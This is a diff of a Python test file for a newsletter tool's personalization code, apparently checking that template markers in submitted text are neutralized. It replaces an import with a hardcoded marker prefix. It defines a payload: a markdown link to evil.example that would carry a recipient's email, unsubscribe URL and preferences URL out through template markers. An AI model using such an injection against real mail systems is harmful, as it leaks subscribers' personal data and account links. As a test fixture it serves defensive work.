@@ -15,7 +15,7 @@ import bounce_samples as samples
 import pytest
 from web_support import Client
 
-from mailmag.personalize import NEUTRALIZED_START
+NEUTRALIZED_START = "__MM-"  # how a marker in submitted text is shown
 
 pytest_plugins = ["web_fixtures"]
 PAYLOAD = "[x](https://evil.example/?e=__MM_EMAIL__&u=__MM_UNSUBSCRIBE_URL__&p=__MM_PREFERENCES_URL__)"
